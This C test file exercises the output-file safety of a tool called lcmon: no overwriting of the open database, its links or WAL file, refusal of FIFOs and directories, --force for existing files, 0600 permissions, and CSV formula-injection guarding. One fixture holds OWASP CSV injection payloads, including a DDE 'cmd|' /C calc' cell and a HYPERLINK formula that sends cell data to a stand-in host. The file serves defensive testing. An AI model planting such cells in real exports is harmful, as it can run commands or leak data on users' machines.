/*
 * test_outfile.c - data safety of the files lcmon writes (engine/outfile.h), through the
 * real binary: never over the open database (compared by device and inode: the file
 * itself, a hard link, its -wal), never over a FIFO or a directory, over an existing
 * file only with --force and then whole; messages name the user's file, not a temporary
 * one; databases, exports and rejects files are 0600; CSV cells a spreadsheet would run
 * are guarded, and lcmon's import of its own export reads the original values back.
 */
#include "export.h"
#include "testing.h"

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* A fresh database under the test directory holding dataset "hh" (from text). */
static const char *db_with(const char *name, const char *text) {
    static char db[4096];
    char csv[4200];
    snprintf(db, sizeof db, "%s", lcmt_tmp(name));
    snprintf(csv, sizeof csv, "%s.in.csv", db);
    lcmt_write(csv, text, strlen(text));
    CU_ASSERT_EQUAL_FATAL(lcmt_run((const char *[]){"init", "-q", db, NULL}, NULL, NULL, NULL), 0);
    CU_ASSERT_EQUAL_FATAL(
        lcmt_run((const char *[]){"import", "dataset", db, csv, "--name", "hh", NULL}, NULL, NULL,
                 NULL),
        0);
    return db;
}

static const char hh[] = "city,note\n1100,a\n1200,b\n";

/* Run `export DB --dataset hh --format csv --out OUT [extra]`; stderr into *err. */
static int export_to(const char *db, const char *out, const char *extra, char **err) {
    const char *args[] = {"export", db, "--dataset", "hh", "--out", out, extra, NULL};
    return lcmt_run(args, NULL, NULL, err);
}

static int same_bytes(const char *path, const char *before, size_t n) {
    size_t m = 0;
    char *now = lcmt_slurp(path, &m);
    int same = now && m == n && memcmp(now, before, n) == 0;
    free(now);
    return same;
}

/* Files in dir whose names hold sub (a temporary file left behind). */
static int leftovers(const char *dir, const char *sub) {
    DIR *d = opendir(dir);
    int n = 0;
    for (struct dirent *e; d && (e = readdir(d));)
        n += strstr(e->d_name, sub) != NULL;
    if (d)
        closedir(d);
    return n;
}

static void outfile__export_never_over_the_database(void) {
    char db[4096], link_path[4200], wal[4200], *err = NULL;
    snprintf(db, sizeof db, "%s", db_with("safe.db", hh));
    size_t n = 0;
    char *before = lcmt_slurp(db, &n);
    CU_ASSERT_PTR_NOT_NULL_FATAL(before);
    /* the database itself, with and without --force */
    CU_ASSERT_EQUAL(export_to(db, db, NULL, &err), 1);
    CU_ASSERT(lcmt_has(err, "refusing to overwrite the open database: '"));
    free(err), err = NULL;
    CU_ASSERT_EQUAL(export_to(db, db, "--force", &err), 1);
    CU_ASSERT(lcmt_has(err, "refusing to overwrite the open database"));
    free(err), err = NULL;
    /* another name for the same file: a hard link (same device and inode) */
    snprintf(link_path, sizeof link_path, "%s.csv", db);
    CU_ASSERT_EQUAL_FATAL(link(db, link_path), 0);
    CU_ASSERT_EQUAL(export_to(db, link_path, "--force", &err), 1);
    CU_ASSERT(lcmt_has(err, "refusing to overwrite the open database"));
    free(err), err = NULL;
    /* its write-ahead log, while the export has it open (WAL mode keeps the file) */
    snprintf(wal, sizeof wal, "%s-wal", db);
    if (access(wal, F_OK) == 0) {
        CU_ASSERT_EQUAL(export_to(db, wal, "--force", &err), 1);
        CU_ASSERT(lcmt_has(err, "refusing to overwrite the open database"));
        free(err), err = NULL;
    }
    CU_ASSERT(same_bytes(db, before, n)); /* byte for byte as it was */
    CU_ASSERT_EQUAL(
        lcmt_run((const char *[]){"export", db, "--dataset", "hh", NULL}, NULL, NULL, NULL),
        0); /* and still a database lcmon reads */
    free(before);
}

static void outfile__existing_file_only_with_force(void) {
    char db[4096], out[4200], *err = NULL;
    snprintf(db, sizeof db, "%s", db_with("force.db", hh));
    snprintf(out, sizeof out, "%s", lcmt_tmp("force_out.csv"));
    lcmt_write(out, "old\n", 4);
    CU_ASSERT_EQUAL(export_to(db, out, NULL, &err), 1);
    char want_err[4400];
    snprintf(want_err, sizeof want_err, "lcmon: file exists (--force replaces it): '%s'\n", out);
    CU_ASSERT_STRING_EQUAL(err, want_err);
    free(err), err = NULL;
    CU_ASSERT(same_bytes(out, "old\n", 4));
    CU_ASSERT_EQUAL(export_to(db, out, "--force", &err), 0);
    static const char want[] = "\xEF\xBB\xBF"
                               "city,note\r\n1100,a\r\n1200,b\r\n";
    CU_ASSERT(same_bytes(out, want, sizeof want - 1));
    CU_ASSERT_EQUAL(leftovers(lcmt_tmp(""), ".lcmon-"), 0); /* no temporary file left */
    free(err);
}

static void outfile__fifo_and_directory_refused(void) {
    char db[4096], fifo[4200], dir[4200], *err = NULL;
    snprintf(db, sizeof db, "%s", db_with("fifo.db", hh));
    snprintf(fifo, sizeof fifo, "%s", lcmt_tmp("a_fifo.csv"));
    snprintf(dir, sizeof dir, "%s", lcmt_tmp("a_dir.csv"));
    CU_ASSERT_EQUAL_FATAL(mkfifo(fifo, 0600), 0);
    CU_ASSERT_EQUAL_FATAL(mkdir(dir, 0700), 0);
    CU_ASSERT_EQUAL(export_to(db, fifo, "--force", &err), 1); /* would block, or be replaced */
    CU_ASSERT(lcmt_has(err, "not a regular file, not replaced: '"));
    free(err), err = NULL;
    struct stat st;
    CU_ASSERT(stat(fifo, &st) == 0 && S_ISFIFO(st.st_mode));
    CU_ASSERT_EQUAL(export_to(db, dir, "--force", &err), 1);
    CU_ASSERT(lcmt_has(err, "is a directory, not a file: '"));
    free(err), err = NULL;
    CU_ASSERT(stat(dir, &st) == 0 && S_ISDIR(st.st_mode));
    /* report --out must be a directory: a file there is refused, not written into */
    const char *rep[] = {"report", db, "--national", "--year", "2025", "--out", fifo, NULL};
    CU_ASSERT_EQUAL(lcmt_run(rep, NULL, NULL, &err), 1);
    CU_ASSERT(lcmt_has(err, "not a directory: '"));
    free(err);
}

static void outfile__network_outputs_checked(void) {
    char db[4096], out[4200], *err = NULL;
    snprintf(db, sizeof db, "%s", db_with("net.db", hh));
    size_t n = 0;
    char *before = lcmt_slurp(db, &n);
    const char *sum[] = {"network", "summary",  db, "--province", "44", "--format",
                         "csv",     "--output", db, "--force",    NULL};
    CU_ASSERT_EQUAL(lcmt_run(sum, NULL, NULL, &err), 1);
    CU_ASSERT(lcmt_has(err, "refusing to overwrite the open database"));
    free(err), err = NULL;
    CU_ASSERT(same_bytes(db, before, n));
    snprintf(out, sizeof out, "%s", lcmt_tmp("net_summary.csv"));
    lcmt_write(out, "keep\n", 5);
    sum[8] = out, sum[9] = NULL; /* no --force */
    CU_ASSERT_EQUAL(lcmt_run(sum, NULL, NULL, &err), 1);
    CU_ASSERT(lcmt_has(err, "file exists (--force replaces it)"));
    free(err), err = NULL;
    CU_ASSERT(same_bytes(out, "keep\n", 5));
    sum[9] = "--force";
    CU_ASSERT_EQUAL(lcmt_run(sum, NULL, NULL, &err), 0);
    char *got = lcmt_slurp(out, NULL);
    CU_ASSERT(got && *got && !lcmt_has(got, "keep"));
    free(got), free(err), err = NULL;
    /* coverage: the chart path is checked before anything is printed */
    snprintf(out, sizeof out, "%s", lcmt_tmp("cov_keep.png"));
    lcmt_write(out, "png?", 4);
    char *stdout_text = NULL;
    const char *cov[] = {"network", "coverage", db, "--output", out, NULL};
    CU_ASSERT_EQUAL(lcmt_run(cov, NULL, &stdout_text, &err), 1);
    CU_ASSERT(lcmt_has(err, "file exists (--force replaces it)"));
    CU_ASSERT(stdout_text && !*stdout_text);
    CU_ASSERT(same_bytes(out, "png?", 4));
    free(stdout_text), free(err), free(before);
}

/* Messages name the user's file: before, '.../nodir/x.csv.part12345'. */
static void outfile__messages_name_the_users_file(void) {
    char db[4096], out[4200], *err = NULL;
    snprintf(db, sizeof db, "%s", db_with("msg.db", hh));
    static const char *const formats[] = {"csv", "json", "sav", "dta", "xlsx"};
    for (int i = 0; i < 5; i++) {
        snprintf(out, sizeof out, "%s/x.%s", lcmt_tmp("no_such_dir"), formats[i]);
        const char *args[] = {"export",   db,      "--dataset", "hh", "--format",
                              formats[i], "--out", out,         NULL};
        CU_ASSERT_EQUAL(lcmt_run(args, NULL, NULL, &err), 1);
        char want[4400];
        snprintf(want, sizeof want, "lcmon: cannot write '%s': No such file or directory\n", out);
        CU_ASSERT_STRING_EQUAL(err, want);
        CU_ASSERT(!lcmt_has(err, ".part") && !lcmt_has(err, ".lcmon-"));
        free(err), err = NULL;
    }
}

static mode_t mode_of(const char *path) {
    struct stat st;
    return stat(path, &st) == 0 ? st.st_mode & 0777 : (mode_t)-1;
}

static void outfile__personal_data_files_are_0600(void) {
    mode_t old = umask(022); /* the usual umask, which made them 0644 */
    char db[4096], wal[4200], out[4200], *err = NULL;
    snprintf(db, sizeof db, "%s", db_with("modes.db", hh));
    snprintf(wal, sizeof wal, "%s-wal", db);
    CU_ASSERT_EQUAL(mode_of(db), 0600);
    if (access(wal, F_OK) == 0)
        CU_ASSERT_EQUAL(mode_of(wal), 0600);
    snprintf(out, sizeof out, "%s", lcmt_tmp("modes.csv"));
    CU_ASSERT_EQUAL(export_to(db, out, NULL, NULL), 0);
    CU_ASSERT_EQUAL(mode_of(out), 0600);
    /* a replaced file gets the export's mode too, not the old file's */
    chmod(out, 0644);
    CU_ASSERT_EQUAL(export_to(db, out, "--force", NULL), 0);
    CU_ASSERT_EQUAL(mode_of(out), 0600);
    /* rejects: 0600, and kept unless --force */
    char fdb[4200], csv[4200], rej[4200];
    snprintf(fdb, sizeof fdb, "%s", lcmt_tmp("modes_form.db"));
    CU_ASSERT_EQUAL_FATAL(lcmt_run((const char *[]){"init", "-q", fdb, NULL}, NULL, NULL, NULL), 0);
    CU_ASSERT_EQUAL(mode_of(fdb), 0600);
    CU_ASSERT_EQUAL_FATAL(
        lcmt_run((const char *[]){"form", "load", fdb, lcmt_path("surveys/household"), NULL}, NULL,
                 NULL, NULL),
        0);
    snprintf(csv, sizeof csv, "%s", lcmt_path("tests/fixtures/import/responses_bad_cells.csv"));
    char *text = lcmt_slurp(csv, NULL);
    snprintf(csv, sizeof csv, "%s", lcmt_tmp("modes_resp.csv"));
    lcmt_write(csv, text, strlen(text));
    free(text);
    snprintf(rej, sizeof rej, "%s", lcmt_tmp("modes_resp.rejected.csv"));
    const char *imp[] = {"import",    "responses",      fdb,  csv, "--form",
                         "household", "--skip-invalid", NULL, NULL};
    CU_ASSERT_EQUAL(lcmt_run(imp, NULL, NULL, NULL), 0);
    CU_ASSERT_EQUAL(mode_of(rej), 0600);
    lcmt_write(rej, "mine\n", 5);
    CU_ASSERT_EQUAL(lcmt_run(imp, NULL, NULL, &err), 1);
    CU_ASSERT(lcmt_has(err, "file exists (--force replaces it): '"));
    CU_ASSERT(same_bytes(rej, "mine\n", 5));
    free(err), err = NULL;
    imp[7] = "--force";
    CU_ASSERT_EQUAL(lcmt_run(imp, NULL, NULL, NULL), 0);
    char *again = lcmt_slurp(rej, NULL);
    CU_ASSERT(again && lcmt_has(again, ",lcmon_problems\r\n"));
    CU_ASSERT_EQUAL(mode_of(rej), 0600);
    free(again);
    umask(old);
}

/* OWASP's CSV injection cells, and numbers that must stay numbers. */
static const char risky[] = "id,note\n"
                            "1,\"=HYPERLINK(\"\"http://x.example/\"\"&A1)\"\n"
                            "2,+cmd|' /C calc'!A0\n"
                            "3,-3.5\n"
                            "4,+1e3\n"
                            "5,@SUM(A1:A2)\n"
                            "6,''=already quoted\n" /* stored as '=already quoted (see export.h) */
                            "8,-\n"
                            "9,plain - text\n";

static void outfile__csv_cells_guarded_and_read_back(void) {
    /* the rule itself, for what the importer trims (tab, CR) */
    CU_ASSERT(lcm_csv_cell_guarded("\tx") && lcm_csv_cell_guarded("\r=1"));
    CU_ASSERT(!lcm_csv_cell_guarded("-3.5") && !lcm_csv_cell_guarded("+1e3") &&
              !lcm_csv_cell_guarded("1.5e-3") && !lcm_csv_cell_guarded("a=b"));
    CU_ASSERT(lcm_csv_cell_guarded("-1+2") && lcm_csv_cell_guarded("-") &&
              lcm_csv_cell_guarded("'@x") && !lcm_csv_cell_guarded("'x"));
    char cell[] = "''=x";
    CU_ASSERT_EQUAL(lcm_csv_cell_unguard(cell, 4), 3);
    CU_ASSERT_STRING_EQUAL(cell, "'=x");
    char plain[] = "'x";
    CU_ASSERT_EQUAL(lcm_csv_cell_unguard(plain, 2), 2);
    char db[4096], out[4200], *stdout_text = NULL;
    snprintf(db, sizeof db, "%s", db_with("inject.db", risky));
    snprintf(out, sizeof out, "%s", lcmt_tmp("inject.csv"));
    CU_ASSERT_EQUAL_FATAL(export_to(db, out, "--no-bom", NULL), 0);
    char *csv = lcmt_slurp(out, NULL);
    CU_ASSERT_STRING_EQUAL(csv, "id,note\r\n"
                                "1,\"'=HYPERLINK(\"\"http://x.example/\"\"&A1)\"\r\n"
                                "2,'+cmd|' /C calc'!A0\r\n"
                                "3,-3.5\r\n"
                                "4,+1e3\r\n"
                                "5,'@SUM(A1:A2)\r\n"
                                "6,''=already quoted\r\n"
                                "8,'-\r\n"
                                "9,plain - text\r\n");
    /* the CLI's own --format csv tables follow the same rule */
    CU_ASSERT_EQUAL(
        lcmt_run((const char *[]){"export", db, "--dataset", "hh", NULL}, NULL, &stdout_text, NULL),
        0);
    CU_ASSERT(stdout_text && strcmp(stdout_text, csv) == 0);
    free(stdout_text);
    /* lcmon's import of its own export: every value as it was */
    CU_ASSERT_EQUAL_FATAL(
        lcmt_run((const char *[]){"import", "dataset", db, out, "--name", "back", NULL}, NULL, NULL,
                 NULL),
        0);
    lcm_db *h = NULL;
    CU_ASSERT_EQUAL_FATAL(lcm_db_open(db, LCM_OPEN_READONLY, &h, NULL), LCM_OK);
    CU_ASSERT_EQUAL(lcmt_count(h, "SELECT count(*) FROM ds_hh a JOIN ds_back b USING (id)"
                                  " WHERE a.note IS b.note"),
                    8);
    CU_ASSERT_EQUAL(lcmt_count(h, "SELECT count(*) FROM ds_back WHERE note IN"
                                  " ('=HYPERLINK(\"http://x.example/\"&A1)', '''=already quoted',"
                                  " '-3.5', '+1e3', '-')"),
                    5);
    lcm_db_close(h);
    free(csv);
}

/* simulate --margins: refused before anything is simulated (the database keeps nothing). */
static void outfile__margins_checked_before_simulating(void) {
    char db[4096], prefix[4200], file[4300], *err = NULL;
    snprintf(db, sizeof db, "%s", lcmt_tmp("margins.db"));
    snprintf(prefix, sizeof prefix, "%s", lcmt_tmp("m"));
    snprintf(file, sizeof file, "%s_2024.csv", prefix);
    CU_ASSERT_EQUAL_FATAL(lcmt_run((const char *[]){"init", "-q", db, NULL}, NULL, NULL, NULL), 0);
    lcmt_write(file, "x\n", 2);
    const char *sim[] = {"simulate", db,     "--cities",  "1",    "--households", "0",
                         "--waves",  "2024", "--margins", prefix, NULL,           NULL};
    CU_ASSERT_EQUAL(lcmt_run(sim, NULL, NULL, &err), 1);
    CU_ASSERT(lcmt_has(err, "file exists (--force replaces it): '"));
    CU_ASSERT(same_bytes(file, "x\n", 2));
    lcm_db *h = NULL;
    CU_ASSERT_EQUAL_FATAL(lcm_db_open(db, LCM_OPEN_READONLY, &h, NULL), LCM_OK);
    CU_ASSERT_EQUAL(lcmt_count(h, "SELECT count(*) FROM indicator_values"), 0);
    lcm_db_close(h);
    free(err), err = NULL;
    sim[10] = "--force";
    CU_ASSERT_EQUAL(lcmt_run(sim, NULL, NULL, &err), 0);
    char *got = lcmt_slurp(file, NULL);
    CU_ASSERT(got && strncmp(got, "margin,level,population\n", 24) == 0);
    free(got), free(err);
}

const lcmt_case lcmt_outfile_cases[] = {
    {"outfile__margins_checked_before_simulating", outfile__margins_checked_before_simulating},
    {"outfile__export_never_over_the_database", outfile__export_never_over_the_database},
    {"outfile__existing_file_only_with_force", outfile__existing_file_only_with_force},
    {"outfile__fifo_and_directory_refused", outfile__fifo_and_directory_refused},
    {"outfile__network_outputs_checked", outfile__network_outputs_checked},
    {"outfile__messages_name_the_users_file", outfile__messages_name_the_users_file},
    {"outfile__personal_data_files_are_0600", outfile__personal_data_files_are_0600},
    {"outfile__csv_cells_guarded_and_read_back", outfile__csv_cells_guarded_and_read_back},
    {NULL, NULL},
};
